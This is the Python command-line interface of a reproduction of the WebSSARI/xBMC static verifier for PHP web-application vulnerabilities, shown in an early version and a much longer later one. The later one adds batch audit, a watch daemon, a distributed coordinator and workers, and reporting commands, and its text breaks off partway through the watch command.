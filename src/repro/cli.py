"""Command-line interface.

```
python -m repro verify  file.php [dir/ ...] [--detailed] [--prelude P]
python -m repro patch   file.php [-o out.php] [--strategy bmc|ts]
python -m repro html    file.php [-o report.html]
python -m repro figure10
```

``verify`` exits 1 when any analyzed file is vulnerable (CI-friendly);
``patch`` writes instrumented source; ``html`` writes the
cross-referenced report; ``figure10`` regenerates the paper's table.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from repro.php.errors import FrontendError
from repro.policy.preludefile import load_prelude
from repro.websari.htmlreport import render_html_report
from repro.websari.pipeline import WebSSARI

__all__ = ["main", "build_parser"]


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="WebSSARI/xBMC: verify and patch PHP web applications "
        "(reproduction of Huang et al., DSN 2004)",
    )
    parser.add_argument(
        "--prelude",
        type=Path,
        default=None,
        help="path to a prelude file extending the default PHP policy",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    verify = sub.add_parser("verify", help="verify PHP files or directories")
    verify.add_argument("paths", nargs="+", type=Path)
    verify.add_argument("--detailed", action="store_true", help="print counterexample traces")

    patch = sub.add_parser("patch", help="verify and insert runtime guards")
    patch.add_argument("path", type=Path)
    patch.add_argument("-o", "--output", type=Path, default=None, help="default: <file>.patched.php")
    patch.add_argument("--strategy", choices=("bmc", "ts"), default="bmc")

    html = sub.add_parser("html", help="write a cross-referenced HTML report")
    html.add_argument("path", type=Path)
    html.add_argument("-o", "--output", type=Path, default=None, help="default: <file>.report.html")

    sub.add_parser("figure10", help="regenerate the paper's Figure 10 table")
    return parser


def _collect_php_files(paths: list[Path]) -> list[Path]:
    files: list[Path] = []
    for path in paths:
        if path.is_dir():
            files.extend(sorted(path.rglob("*.php")))
        else:
            files.append(path)
    return files


def _make_websari(args: argparse.Namespace) -> WebSSARI:
    prelude = load_prelude(args.prelude) if args.prelude else None
    return WebSSARI(prelude=prelude)


def _cmd_verify(args: argparse.Namespace) -> int:
    websari = _make_websari(args)
    files = _collect_php_files(args.paths)
    if not files:
        print("no PHP files found", file=sys.stderr)
        return 2
    any_vulnerable = False
    any_error = False
    for path in files:
        try:
            report = websari.verify_source(path.read_text(), filename=str(path))
        except FrontendError as error:
            print(f"{path}: frontend error: {error}", file=sys.stderr)
            any_error = True
            continue
        except OSError as error:
            print(f"{path}: {error}", file=sys.stderr)
            any_error = True
            continue
        print(report.detailed_report() if args.detailed else report.summary())
        print()
        any_vulnerable = any_vulnerable or not report.safe
    if any_error:
        return 2
    return 1 if any_vulnerable else 0


def _cmd_patch(args: argparse.Namespace) -> int:
    websari = _make_websari(args)
    source = args.path.read_text()
    report, patched = websari.patch_source(
        source, filename=str(args.path), strategy=args.strategy
    )
    output = args.output or args.path.with_suffix(".patched.php")
    output.write_text(patched.source)
    print(report.summary())
    print(f"wrote {output} ({patched.num_guards} guard(s), {patched.num_edits} edit(s))")
    return 0


def _cmd_html(args: argparse.Namespace) -> int:
    websari = _make_websari(args)
    source = args.path.read_text()
    report = websari.verify_source(source, filename=str(args.path))
    output = args.output or args.path.with_suffix(".report.html")
    output.write_text(render_html_report(report, source))
    print(f"wrote {output}")
    return 0 if report.safe else 1


def _cmd_figure10(args: argparse.Namespace) -> int:
    from repro.corpus import FIGURE_10, PAPER_TOTALS
    from repro.corpus.generator import generate_catalog_project

    websari = _make_websari(args)
    print(f"{'Project':40s} {'A':>3s} {'TS':>5s} {'BMC':>5s}")
    total_ts = total_bmc = 0
    for entry in FIGURE_10:
        generated = generate_catalog_project(entry)
        report = websari.verify_project(generated.project)
        total_ts += report.ts_error_count
        total_bmc += report.bmc_group_count
        print(
            f"{entry.name[:40]:40s} {entry.activity:3d} "
            f"{report.ts_error_count:5d} {report.bmc_group_count:5d}"
        )
    print(f"{'Total':40s}     {total_ts:5d} {total_bmc:5d}")
    reduction = 100.0 * (total_ts - total_bmc) / total_ts if total_ts else 0.0
    print(
        f"reduction: {reduction:.1f}% "
        f"(paper: {PAPER_TOTALS['reduction_percent']}% from stated totals)"
    )
    return 0


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    handlers = {
        "verify": _cmd_verify,
        "patch": _cmd_patch,
        "html": _cmd_html,
        "figure10": _cmd_figure10,
    }
    return handlers[args.command](args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
