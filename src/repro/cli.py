"""Command-line interface.

```
python -m repro verify  file.php [dir/ ...] [--detailed] [--prelude P]
                        [--stats] [--solver cdcl|dpll|portfolio]
                        [--restart-strategy geometric|luby] [--sat-seed N]
                        [--trace out.json] [--sat-cache on|off]
python -m repro audit   dir/ [--jobs N] [--timeout S] [--cache-dir D]
                        [--no-cache] [--jsonl out.jsonl] [--detailed]
                        [--trace out.json] [--metrics out.prom]
                        [--solver cdcl|dpll|portfolio] [--sat-cache on|off]
                        [--parse-cache on|off]
                        [--restart-strategy geometric|luby] [--sat-seed N]
                        [--shard I/N] [--start-method fork|spawn]
python -m repro watch   dir/ [--interval S] [--debounce S] [--jobs N]
                        [--serve-metrics [HOST]:PORT] [--out-dir D]
                        [--once] [--cache-dir D] [--sat-cache on|off]
                        [--parse-cache on|off]
python -m repro serve   [--bind [HOST]:PORT] [--lease-timeout S]
                        [--submit PATH ...] [--jsonl-dir D]
                        [--trace out.json] [--drain-grace S]
python -m repro work    --connect URL [--node NAME] [--jobs N]
                        [--poll S] [--lease N] [--timeout S]
                        [--start-method fork|spawn]
python -m repro report  audit.jsonl [--top N] [--json] [--html OUT]
python -m repro report  --diff old.jsonl new.jsonl
python -m repro patch   file.php [-o out.php] [--strategy bmc|ts]
python -m repro html    file.php [-o report.html]
python -m repro figure10 [--jobs N]
```

``verify`` walks files sequentially in-process; ``audit`` is the batch
engine — a worker pool with per-file timeouts, crash isolation, and a
content-addressed result cache (see ``repro.engine``).  Both share the
CI-friendly exit-code contract:

* ``0`` — every analyzed file verified safe;
* ``1`` — at least one file has a confirmed vulnerability (takes
  precedence over errors);
* ``2`` — no vulnerabilities found, but at least one file could not be
  analyzed (parse/read error, timeout, worker crash) or no input files.

``watch`` is the incremental re-audit daemon: it polls a tree and pushes
only changed files through the audit engine, serves live Prometheus
metrics, and drains gracefully on SIGINT/SIGTERM (see ``repro.daemon``
and docs/DAEMON.md).  ``serve`` and ``work`` are the distributed audit
service — an HTTP coordinator that accepts submitted projects and
leases file-level tasks to remote worker nodes, with ``audit --shard
i/n`` as the coordination-free alternative for machines sharing a cache
directory (see ``repro.service`` and docs/SERVICE.md).  ``report``
summarizes an audit JSONL stream (``--json`` for machine-readable
output, ``--html OUT`` for a self-contained dashboard, or diffs two
streams — exit 1 when the diff shows new/regressed vulnerable files);
``--trace``
writes a Chrome trace-event file loadable in Perfetto or
``chrome://tracing``; ``--metrics`` writes a Prometheus text snapshot
(see ``repro.obs`` and docs/OBSERVABILITY.md).  ``patch`` writes
instrumented source; ``html`` writes the cross-referenced report;
``figure10`` regenerates the paper's table.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from pathlib import Path

from repro.php.errors import FrontendError
from repro.policy.preludefile import load_prelude
from repro.websari.htmlreport import render_html_report
from repro.websari.pipeline import WebSSARI

__all__ = ["main", "build_parser"]

EXIT_CODES_HELP = (
    "exit codes: 0 = all analyzed files safe; "
    "1 = confirmed vulnerability in at least one file (takes precedence "
    "over errors); 2 = no vulnerabilities but at least one file failed "
    "to analyze, or no input files"
)


def _positive_float(text: str) -> float:
    value = float(text)
    if value <= 0:
        raise argparse.ArgumentTypeError(f"must be positive: {text}")
    return value


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="WebSSARI/xBMC: verify and patch PHP web applications "
        "(reproduction of Huang et al., DSN 2004)",
    )
    parser.add_argument(
        "--prelude",
        type=Path,
        default=None,
        help="path to a prelude file extending the default PHP policy",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    verify = sub.add_parser(
        "verify", help="verify PHP files or directories", epilog=EXIT_CODES_HELP
    )
    verify.add_argument("paths", nargs="+", type=Path)
    verify.add_argument("--detailed", action="store_true", help="print counterexample traces")
    verify.add_argument(
        "--stats", action="store_true",
        help="print per-file SAT-solver and formula statistics",
    )
    verify.add_argument(
        "--solver", choices=("cdcl", "dpll", "portfolio"), default="cdcl",
        help="SAT backend (dpll is the slow ablation baseline)",
    )
    verify.add_argument(
        "--sat-cache", choices=("on", "off"), default="off",
        help="memoize SAT queries by canonical CNF fingerprint across the "
        "files of this run (in-memory; see docs/SOLVER.md)",
    )
    verify.add_argument(
        "--restart-strategy", choices=("geometric", "luby"), default="geometric",
        help="CDCL restart schedule (primary lane in portfolio mode)",
    )
    verify.add_argument(
        "--sat-seed", type=int, default=0, metavar="N",
        help="deterministic VSIDS/phase seed for the CDCL solver "
        "(0 = historical defaults; portfolio lanes derive their own)",
    )
    verify.add_argument(
        "--replay", choices=("on", "off"), default="off",
        help="concretely replay each counterexample through the PHP "
        "interpreter with a synthesized witness request and report "
        "confirmed/refuted/unsupported per trace (see docs/REPLAY.md)",
    )
    verify.add_argument(
        "--trace", type=Path, default=None, metavar="OUT.json",
        help="write a Chrome trace-event file of the run (open in Perfetto)",
    )

    audit = sub.add_parser(
        "audit",
        help="batch-verify in parallel with result caching",
        description="Fan file-level verification over a worker pool with "
        "per-file timeouts, crash isolation, and a content-addressed "
        "result cache keyed on source + policy + engine version "
        "(unchanged files are skipped on re-audit).",
        epilog=EXIT_CODES_HELP,
    )
    audit.add_argument("paths", nargs="+", type=Path)
    audit.add_argument(
        "--jobs", "-j", type=int, default=os.cpu_count() or 1,
        help="worker processes (default: CPU count; 1 = run in-process)",
    )
    audit.add_argument(
        "--timeout", type=_positive_float, default=None,
        help="per-file wall-clock limit in seconds (needs --jobs >= 2)",
    )
    audit.add_argument(
        "--cache-dir", type=Path, default=None,
        help="result cache directory (default: $REPRO_CACHE_DIR or ~/.cache/repro-audit)",
    )
    audit.add_argument("--no-cache", action="store_true", help="disable the result cache")
    audit.add_argument(
        "--jsonl", type=Path, default=None,
        help="stream per-file records and final stats to this JSONL file",
    )
    audit.add_argument("--detailed", action="store_true", help="print counterexample traces")
    audit.add_argument(
        "--quiet", "-q", action="store_true", help="suppress per-file reports (stats only)"
    )
    audit.add_argument(
        "--trace", type=Path, default=None, metavar="OUT.json",
        help="write a Chrome trace-event file with nested per-file spans "
        "down to per-assertion SAT solves (open in Perfetto)",
    )
    audit.add_argument(
        "--metrics", type=Path, default=None, metavar="OUT.prom",
        help="write a Prometheus text-format metrics snapshot of the run",
    )
    audit.add_argument(
        "--solver", choices=("cdcl", "dpll", "portfolio"), default="cdcl",
        help="SAT backend (dpll is the slow ablation baseline)",
    )
    audit.add_argument(
        "--sat-cache", choices=("on", "off"), default="on",
        help="memoize SAT queries by canonical CNF fingerprint, persisted "
        "under <cache-dir>/sat so repeated code shapes accelerate even "
        "cold (file-level-miss) runs; independent of --no-cache "
        "(see docs/SOLVER.md)",
    )
    audit.add_argument(
        "--parse-cache", choices=("on", "off"), default="on", dest="parse_cache",
        help="memoize parse results by content hash, persisted under "
        "<cache-dir>/parse so shared include files parse once per "
        "content across entries, workers, and runs (see docs/AUDIT_ENGINE.md)",
    )
    audit.add_argument(
        "--restart-strategy", choices=("geometric", "luby"), default="geometric",
        help="CDCL restart schedule (primary lane in portfolio mode)",
    )
    audit.add_argument(
        "--sat-seed", type=int, default=0, metavar="N",
        help="deterministic VSIDS/phase seed for the CDCL solver "
        "(0 = historical defaults; portfolio lanes derive their own)",
    )
    audit.add_argument(
        "--shard", metavar="I/N", default=None,
        help="audit only shard I of N (1-based): a deterministic "
        "content-hash partition of the corpus, disjoint and exhaustive "
        "across all N shards and stable under file renames — machines "
        "sharing a --cache-dir can each take one shard with zero "
        "coordination (see docs/SERVICE.md)",
    )
    audit.add_argument(
        "--start-method", choices=("fork", "spawn"), default=None,
        help="worker-pool start method (default: fork where available; "
        "spawn is the portable escape hatch — workers receive their "
        "policy as an explicit session message either way)",
    )
    audit.add_argument(
        "--replay", choices=("on", "off"), default="off",
        help="concretely replay each counterexample through the PHP "
        "interpreter and record confirmed/refuted/unsupported verdicts "
        "per file (folded into the policy fingerprint, so toggling it "
        "invalidates cached results; see docs/REPLAY.md)",
    )

    watch = sub.add_parser(
        "watch",
        help="re-audit a tree continuously as files change",
        description="Incremental re-audit daemon: poll ROOT for changed "
        ".php files every --interval seconds and push only the dirty set "
        "through the audit engine; unchanged files are answered by the "
        "content-addressed result cache (kept hot in memory for the "
        "daemon's lifetime). Every non-idle cycle appends a JSONL stream "
        "under --out-dir, each merging fresh outcomes with the last known "
        "record of unchanged files, so `repro report --diff` works "
        "between any two cycles. SIGINT/SIGTERM drains in-flight work "
        "(trailer carries interrupted: true) and exits 0.",
        epilog="exit codes: 0 = clean shutdown (signal drain or --once); "
        "2 = root is not a watchable directory or bad --serve-metrics "
        "address",
    )
    watch.add_argument("root", type=Path, help="directory tree to watch")
    watch.add_argument(
        "--interval", type=_positive_float, default=2.0,
        help="seconds between tree polls (default 2.0)",
    )
    watch.add_argument(
        "--debounce", type=float, default=0.5,
        help="defer files modified within this many seconds of the poll "
        "(in-progress writes; 0 disables, default 0.5)",
    )
    watch.add_argument(
        "--jobs", "-j", type=int, default=os.cpu_count() or 1,
        help="worker processes per cycle (default: CPU count; 1 = inline)",
    )
    watch.add_argument(
        "--timeout", type=_positive_float, default=None,
        help="per-file wall-clock limit in seconds (needs --jobs >= 2)",
    )
    watch.add_argument(
        "--cache-dir", type=Path, default=None,
        help="result cache directory (default: $REPRO_CACHE_DIR or ~/.cache/repro-audit)",
    )
    watch.add_argument(
        "--no-cache", action="store_true", help="disable the result cache"
    )
    watch.add_argument(
        "--out-dir", type=Path, default=None,
        help="per-cycle JSONL directory (default: <cache-dir>/watch)",
    )
    watch.add_argument(
        "--serve-metrics", metavar="[HOST]:PORT", default=None,
        help="serve live Prometheus metrics plus /healthz on this address "
        "(empty host = loopback; if the port is taken an ephemeral one "
        "is used and printed)",
    )
    watch.add_argument(
        "--once", action="store_true",
        help="run the initial full-audit cycle and exit (smoke testing; "
        "implies --debounce 0 so a just-created corpus is not deferred)",
    )
    watch.add_argument(
        "--quiet", "-q", action="store_true", help="suppress per-cycle summaries"
    )
    watch.add_argument(
        "--solver", choices=("cdcl", "dpll", "portfolio"), default="cdcl",
        help="SAT backend (dpll is the slow ablation baseline)",
    )
    watch.add_argument(
        "--sat-cache", choices=("on", "off"), default="on",
        help="persistent SAT-query memo under <cache-dir>/sat (see docs/SOLVER.md)",
    )
    watch.add_argument(
        "--parse-cache", choices=("on", "off"), default="on", dest="parse_cache",
        help="content-hash parse memo under <cache-dir>/parse "
        "(see docs/DAEMON.md)",
    )
    watch.add_argument(
        "--restart-strategy", choices=("geometric", "luby"), default="geometric",
        help="CDCL restart schedule (primary lane in portfolio mode)",
    )
    watch.add_argument(
        "--sat-seed", type=int, default=0, metavar="N",
        help="deterministic VSIDS/phase seed for the CDCL solver "
        "(0 = historical defaults; portfolio lanes derive their own)",
    )
    watch.add_argument(
        "--start-method", choices=("fork", "spawn"), default=None,
        help="worker-pool start method (default: fork where available)",
    )
    watch.add_argument(
        "--replay", choices=("on", "off"), default="off",
        help="concretely replay counterexamples through the interpreter "
        "(folded into the policy fingerprint; see docs/REPLAY.md)",
    )

    serve = sub.add_parser(
        "serve",
        help="run the distributed-audit HTTP coordinator",
        description="Audit-service coordinator: accepts submitted projects "
        "(JSON files, tar upload, or a path local to this process), "
        "enqueues file-level tasks, leases them to `repro work` nodes with "
        "timeout-based re-queue on node loss, and serves merged per-job "
        "JSONL streams plus live /metrics and /healthz "
        "(see docs/SERVICE.md for the endpoint contract).",
        epilog="exit codes: 0 = clean shutdown on SIGINT/SIGTERM (drains "
        "outstanding leases first); 2 = bad --bind address or unreadable "
        "--submit path",
    )
    serve.add_argument(
        "--bind", metavar="[HOST]:PORT", default="127.0.0.1:9410",
        help="listen address (default 127.0.0.1:9410; empty host = "
        "loopback; port 0 or a busy port binds an ephemeral one)",
    )
    serve.add_argument(
        "--lease-timeout", type=_positive_float, default=60.0,
        help="seconds a node may hold a task without heartbeating before "
        "it is re-queued for other nodes (default 60)",
    )
    serve.add_argument(
        "--submit", type=Path, action="append", default=None, metavar="PATH",
        help="submit this file/directory as a job at startup (repeatable)",
    )
    serve.add_argument(
        "--jsonl-dir", type=Path, default=None,
        help="write each completed job's merged stream to <dir>/<job>.jsonl",
    )
    serve.add_argument(
        "--trace", type=Path, default=None, metavar="OUT.json",
        help="write a Chrome trace-event file on shutdown: per-file spans "
        "stitched from node-reported stage timings, one track per node",
    )
    serve.add_argument(
        "--drain-grace", type=_positive_float, default=30.0,
        help="seconds to wait for outstanding leases after a shutdown "
        "signal before exiting anyway (default 30)",
    )

    work = sub.add_parser(
        "work",
        help="run a worker node attached to a coordinator",
        description="Worker node for the distributed audit service: "
        "registers with a `repro serve` coordinator, leases batches of "
        "file-level tasks, audits them through the local worker pool "
        "(same timeouts, crash isolation, and caching as `repro audit`), "
        "and reports results back.  Heartbeats keep leases alive during "
        "long batches; a node that dies simply stops heartbeating and "
        "its tasks re-queue elsewhere.",
        epilog="exit codes: 0 = clean drain (coordinator draining, or "
        "SIGINT/SIGTERM); 1 = coordinator unreachable or registration "
        "rejected (policy mismatch); 2 = bad --connect URL",
    )
    work.add_argument(
        "--connect", required=True, metavar="URL",
        help="coordinator base URL, e.g. http://127.0.0.1:9410",
    )
    work.add_argument(
        "--node", default=None,
        help="node name for attribution in merged streams "
        "(default: <hostname>-<pid>)",
    )
    work.add_argument(
        "--jobs", "-j", type=int, default=os.cpu_count() or 1,
        help="local worker processes (default: CPU count; 1 = in-process)",
    )
    work.add_argument(
        "--lease", type=int, default=None, metavar="N",
        help="tasks to lease per batch (default: 2x --jobs)",
    )
    work.add_argument(
        "--poll", type=_positive_float, default=1.0,
        help="seconds between lease polls when idle (default 1.0)",
    )
    work.add_argument(
        "--timeout", type=_positive_float, default=None,
        help="per-file wall-clock limit in seconds (needs --jobs >= 2)",
    )
    work.add_argument(
        "--cache-dir", type=Path, default=None,
        help="result cache directory (default: $REPRO_CACHE_DIR or ~/.cache/repro-audit)",
    )
    work.add_argument("--no-cache", action="store_true", help="disable the result cache")
    work.add_argument(
        "--quiet", "-q", action="store_true", help="suppress per-batch progress lines"
    )
    work.add_argument(
        "--solver", choices=("cdcl", "dpll", "portfolio"), default="cdcl",
        help="SAT backend (must match the rest of the fleet)",
    )
    work.add_argument(
        "--sat-cache", choices=("on", "off"), default="on",
        help="persistent SAT-query memo under <cache-dir>/sat",
    )
    work.add_argument(
        "--parse-cache", choices=("on", "off"), default="on", dest="parse_cache",
        help="content-hash parse memo under <cache-dir>/parse (folded into "
        "the policy fingerprint: must match the rest of the fleet)",
    )
    work.add_argument(
        "--restart-strategy", choices=("geometric", "luby"), default="geometric",
        help="CDCL restart schedule (primary lane in portfolio mode)",
    )
    work.add_argument(
        "--sat-seed", type=int, default=0, metavar="N",
        help="deterministic VSIDS/phase seed for the CDCL solver "
        "(0 = historical defaults; portfolio lanes derive their own)",
    )
    work.add_argument(
        "--start-method", choices=("fork", "spawn"), default=None,
        help="local worker-pool start method (default: fork where available)",
    )
    work.add_argument(
        "--replay", choices=("on", "off"), default="off",
        help="concretely replay counterexamples through the interpreter "
        "(folded into the policy fingerprint: must match the rest of "
        "the fleet; see docs/REPLAY.md)",
    )

    report = sub.add_parser(
        "report",
        help="summarize or diff audit JSONL streams",
        description="Render one `repro audit --jsonl` stream as a summary "
        "table (verdicts, cache hits, stage times, slowest files), or diff "
        "two streams into new / fixed / regressed file lists.",
        epilog="exit codes: 0 = report rendered (diff: no regressions); "
        "1 = diff found new or regressed vulnerable files; 2 = unreadable "
        "or malformed stream; 3 = replay disagreements (vulnerable "
        "verdicts whose concrete replays were all refuted)",
    )
    report.add_argument(
        "path", nargs="?", type=Path, help="audit JSONL stream to summarize"
    )
    report.add_argument(
        "--diff", nargs=2, type=Path, metavar=("OLD", "NEW"),
        help="compare two audit streams instead of summarizing one",
    )
    report.add_argument(
        "--top", type=int, default=10, help="slowest files to list (default 10)"
    )
    report.add_argument(
        "--json", action="store_true",
        help="emit the summary as machine-readable JSON instead of text",
    )
    report.add_argument(
        "--html", type=Path, metavar="OUT", default=None,
        help="also write a self-contained HTML dashboard to OUT",
    )

    patch = sub.add_parser("patch", help="verify and insert runtime guards")
    patch.add_argument("path", type=Path)
    patch.add_argument("-o", "--output", type=Path, default=None, help="default: <file>.patched.php")
    patch.add_argument("--strategy", choices=("bmc", "ts"), default="bmc")

    html = sub.add_parser("html", help="write a cross-referenced HTML report")
    html.add_argument("path", type=Path)
    html.add_argument("-o", "--output", type=Path, default=None, help="default: <file>.report.html")

    figure10 = sub.add_parser("figure10", help="regenerate the paper's Figure 10 table")
    figure10.add_argument(
        "--jobs", "-j", type=int, default=1,
        help="verify each project's entry files over N worker processes",
    )
    return parser


def _collect_php_files(paths: list[Path]) -> list[Path]:
    """Expand files and directories into a deduplicated list of PHP files.

    Passing a directory plus a file inside it yields the file once; files
    discovered during a directory walk that cannot be read are skipped
    with a warning rather than crashing the walk (explicitly named files
    are kept, so their failure is reported per-file downstream).
    """
    files: list[Path] = []
    seen: set[Path] = set()

    def add(path: Path) -> None:
        try:
            identity = path.resolve()
        except OSError:
            identity = path
        if identity not in seen:
            seen.add(identity)
            files.append(path)

    for path in paths:
        if path.is_dir():
            for candidate in sorted(path.rglob("*.php")):
                if not candidate.is_file():
                    print(
                        f"warning: skipping {candidate} (not a readable file)",
                        file=sys.stderr,
                    )
                    continue
                if not os.access(candidate, os.R_OK):
                    print(
                        f"warning: skipping {candidate} (permission denied)",
                        file=sys.stderr,
                    )
                    continue
                add(candidate)
        else:
            add(path)
    return files


def _make_websari(args: argparse.Namespace) -> WebSSARI:
    from repro.php.parsecache import ParseCache
    from repro.sat.cache import SatQueryCache

    prelude = load_prelude(args.prelude) if args.prelude else None
    sat_cache = (
        SatQueryCache() if getattr(args, "sat_cache", "off") == "on" else None
    )
    parse_cache = (
        ParseCache() if getattr(args, "parse_cache", "off") == "on" else None
    )
    return WebSSARI(
        prelude=prelude,
        solver=getattr(args, "solver", "cdcl"),
        sat_cache=sat_cache,
        restart_strategy=getattr(args, "restart_strategy", "geometric"),
        sat_seed=getattr(args, "sat_seed", 0),
        parse_cache=parse_cache,
        replay=getattr(args, "replay", "off") == "on",
    )


def _solver_stats_lines(report) -> list[str]:
    """Terminal rendering of one report's aggregated SolverStats."""
    bmc = report.bmc
    totals = bmc.solver_stats
    counters = ", ".join(
        f"{totals.get(name, 0)} {label}"
        for name, label in (
            ("decisions", "decisions"),
            ("propagations", "propagations"),
            ("conflicts", "conflicts"),
            ("learned_clauses", "learned"),
            ("restarts", "restarts"),
        )
    )
    lines = [
        f"  solver[{bmc.solver_backend}]: {counters} "
        f"in {bmc.num_solve_calls} solve call(s)",
        f"  preprocessing: {totals.get('preprocessed_clauses', 0)} clause(s) "
        f"simplified at add time, {totals.get('lbd_deletions', 0)} LBD deletion(s)",
    ]
    if totals.get("cache_hits", 0) or totals.get("cache_misses", 0):
        lines.append(
            f"  sat-cache: {totals.get('cache_hits', 0)} hit(s), "
            f"{totals.get('cache_misses', 0)} miss(es)"
        )
    if totals.get("learned_imported", 0) or totals.get("root_satisfied_deleted", 0):
        lines.append(
            f"  incremental: {totals.get('learned_imported', 0)} learned "
            f"clause(s) imported, {totals.get('root_satisfied_deleted', 0)} "
            "dead clause(s) reclaimed"
        )
    if totals.get("portfolio_races", 0):
        wins = ", ".join(
            f"{name[len('portfolio_win_'):].replace('_', '-')} x{count}"
            for name, count in sorted(totals.items())
            if name.startswith("portfolio_win_")
        )
        line = (
            f"  portfolio: {totals.get('portfolio_races', 0)} race(s), "
            f"{totals.get('portfolio_wasted_conflicts', 0)} wasted conflict(s)"
        )
        if wins:
            line += f"; wins: {wins}"
        lines.append(line)
    lines.append(
        f"  formula: {bmc.num_vars} var(s), {bmc.num_clauses} clause(s), "
        f"{bmc.solve_seconds:.3f}s solving"
    )
    return lines


def _cmd_verify(args: argparse.Namespace) -> int:
    from repro.obs import Tracer, set_tracer, write_chrome_trace

    websari = _make_websari(args)
    files = _collect_php_files(args.paths)
    if not files:
        print("no PHP files found", file=sys.stderr)
        return 2
    tracer = Tracer(enabled=True) if args.trace else None
    previous_tracer = set_tracer(tracer) if tracer is not None else None
    any_vulnerable = False
    any_error = False
    try:
        for path in files:
            try:
                source = path.read_text()
                report = websari.verify_source(source, filename=str(path))
            except FrontendError as error:
                print(f"{path}: frontend error: {error}", file=sys.stderr)
                any_error = True
                continue
            except OSError as error:
                print(f"{path}: {error}", file=sys.stderr)
                any_error = True
                continue
            print(report.detailed_report() if args.detailed else report.summary())
            if args.stats:
                for line in _solver_stats_lines(report):
                    print(line)
            if getattr(args, "replay", "off") == "on" and not report.safe:
                from repro.replay import replay_source, summarize_replays

                summary = summarize_replays(
                    replay_source(source, report, filename=str(path))
                )
                print(
                    f"  replay: {summary['confirmed']} confirmed, "
                    f"{summary['refuted']} refuted, "
                    f"{summary['unsupported']} unsupported"
                )
                for trace in summary["traces"]:
                    line = (
                        f"    assertion {trace['assert_id']}: {trace['verdict']}"
                    )
                    if trace.get("channel"):
                        line += f" via {trace['channel']}"
                    if trace.get("patched"):
                        line += f"; patched: {trace['patched']}"
                    if trace.get("reason"):
                        line += f" ({trace['reason']})"
                    print(line)
            print()
            any_vulnerable = any_vulnerable or not report.safe
    finally:
        if tracer is not None:
            set_tracer(previous_tracer)
            write_chrome_trace(args.trace, tracer.take_roots())
            print(f"wrote trace to {args.trace}", file=sys.stderr)
    if any_error and any_vulnerable:
        # Both conditions hold: report both, vulnerabilities win the exit
        # code (an un-analyzable file must not mask confirmed findings).
        print(
            "note: some files failed to analyze AND vulnerabilities were "
            "confirmed; exiting 1 (vulnerabilities take precedence)",
            file=sys.stderr,
        )
    if any_vulnerable:
        return 1
    return 2 if any_error else 0


def _cmd_audit(args: argparse.Namespace) -> int:
    from repro.engine import (
        AuditEngine,
        AuditTask,
        EngineConfig,
        JsonlSink,
        ResultCache,
        default_cache_dir,
    )

    from repro.obs import MetricsRegistry, Tracer, write_chrome_trace

    shard = None
    if args.shard:
        from repro.service.sharding import assign_shard, parse_shard

        try:
            shard = parse_shard(args.shard)
        except ValueError as error:
            print(f"audit: {error}", file=sys.stderr)
            return 2

    websari = _make_websari(args)
    # Persist SAT query results under the engine's cache root even when
    # --no-cache disables the file-level result cache: the layers are
    # independent (see docs/SOLVER.md); the parse cache follows the same
    # rule under <cache-dir>/parse.
    websari.attach_persistent_sat_cache(args.cache_dir or default_cache_dir())
    websari.attach_persistent_parse_cache(args.cache_dir or default_cache_dir())
    files = _collect_php_files(args.paths)
    if not files:
        print("no PHP files found", file=sys.stderr)
        return 2

    tasks: list[AuditTask] = []
    any_read_error = False
    skipped_other_shards = 0
    for path in files:
        try:
            source = path.read_text()
        except OSError as error:
            print(f"{path}: {error}", file=sys.stderr)
            any_read_error = True
            continue
        if shard is not None and assign_shard(source, shard[1]) != shard[0]:
            skipped_other_shards += 1
            continue
        tasks.append(AuditTask(index=len(tasks), filename=str(path), source=source))
    if shard is not None:
        print(
            f"shard {args.shard}: {len(tasks)} of "
            f"{len(tasks) + skipped_other_shards} file(s) assigned here",
            file=sys.stderr,
        )

    cache = None if args.no_cache else ResultCache(args.cache_dir or default_cache_dir())
    sink = JsonlSink(args.jsonl) if args.jsonl else None
    tracer = Tracer(enabled=True) if args.trace else None
    metrics = MetricsRegistry() if args.metrics else None
    config = EngineConfig(
        jobs=max(1, args.jobs),
        timeout=args.timeout,
        start_method=args.start_method,
        cache=cache,
        progress=sys.stderr.isatty(),
        jsonl=sink,
        tracer=tracer,
        metrics=metrics,
    )
    try:
        result = AuditEngine(websari=websari, config=config).run(tasks)
    finally:
        if sink is not None:
            sink.close()
        if tracer is not None:
            write_chrome_trace(args.trace, tracer.take_roots())
            print(f"wrote trace to {args.trace}", file=sys.stderr)
        if metrics is not None:
            args.metrics.write_text(metrics.render())
            print(f"wrote metrics to {args.metrics}", file=sys.stderr)

    for outcome in result.outcomes:
        if outcome.status == "ok":
            if not args.quiet:
                print(outcome.detailed if args.detailed else outcome.summary)
                print()
        else:
            detail = (outcome.error or "").splitlines()
            suffix = f": {detail[0]}" if detail else ""
            print(f"{outcome.filename}: {outcome.status}{suffix}", file=sys.stderr)
    for line in result.stats.summary_lines():
        print(line)

    if result.any_vulnerable:
        return 1
    return 2 if (result.any_failed or any_read_error) else 0


def _cmd_watch(args: argparse.Namespace) -> int:
    import signal
    import threading

    from repro.daemon import MetricsServer, WatchLoop
    from repro.daemon.metrics_server import parse_bind
    from repro.engine import HotResultCache, default_cache_dir
    from repro.obs import MetricsRegistry

    if not args.root.is_dir():
        print(f"watch: {args.root} is not a directory", file=sys.stderr)
        return 2
    bind = None
    if args.serve_metrics:
        try:
            bind = parse_bind(args.serve_metrics)
        except ValueError as error:
            print(f"watch: invalid metrics address: {error}", file=sys.stderr)
            return 2

    websari = _make_websari(args)
    cache_root = Path(args.cache_dir or default_cache_dir())
    websari.attach_persistent_sat_cache(cache_root)
    websari.attach_persistent_parse_cache(cache_root)
    # Hot layer on top of the shared on-disk cache: unchanged files are
    # answered from memory for the daemon's lifetime.
    cache = None if args.no_cache else HotResultCache(cache_root)
    # The include graph is independent of the result cache: reverse-graph
    # invalidation must work even under --no-cache.
    from repro.php.parsecache import IncludeGraph

    include_graph = IncludeGraph(cache_root / "include-graph.json")
    metrics = MetricsRegistry()
    stop = threading.Event()
    loop = WatchLoop(
        args.root,
        websari,
        cache=cache,
        jobs=max(1, args.jobs),
